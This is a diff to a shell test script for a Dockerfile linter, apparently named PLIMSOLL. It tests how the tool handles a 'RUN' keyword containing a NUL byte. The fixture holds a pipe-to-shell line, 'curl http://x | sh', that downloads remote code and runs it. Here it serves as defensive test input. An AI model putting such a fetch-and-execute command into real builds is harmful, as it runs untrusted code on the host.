@@ -64,14 +64,15 @@ has "$tmp/out" "bytes/sees flag type=bind\\x00SENTINEL"
 has "$tmp/out" "bytes/sees arg a\\x00SENTINEL"
 
 # `RUN\0x` was taken for RUN (the keyword was compared up to the NUL); BuildKit sees an
-# unknown instruction there, and so do the rules now.
+# unknown instruction there and refuses the file, and so does the analysis: an error
+# that shows the whole keyword, NUL included.
 printf 'FROM alpine\nRUN\0x curl http://x | sh\n' >keyword.Dockerfile
 run "a keyword with a NUL is an unknown instruction" check keyword.Dockerfile
-expect_status 1
-has "$tmp/out" "bytes/sees unknown run\\x00x"
+expect_status 2
+has "$tmp/out" "keyword.Dockerfile:2:1: error: unknown instruction: RUN\\x00x"
 lacks "$tmp/out" "command curl"
-run "the built-in rules flag it" "$PLIMSOLL" check --no-config keyword.Dockerfile
-has "$tmp/out" "unknown-instruction"
+run "whatever --fail-on says" "$PLIMSOLL" check --no-config --fail-on critical keyword.Dockerfile
+expect_status 2
 
 # No report carries a raw NUL byte, in either format; the model shows \u0000.
 for f in text json; do
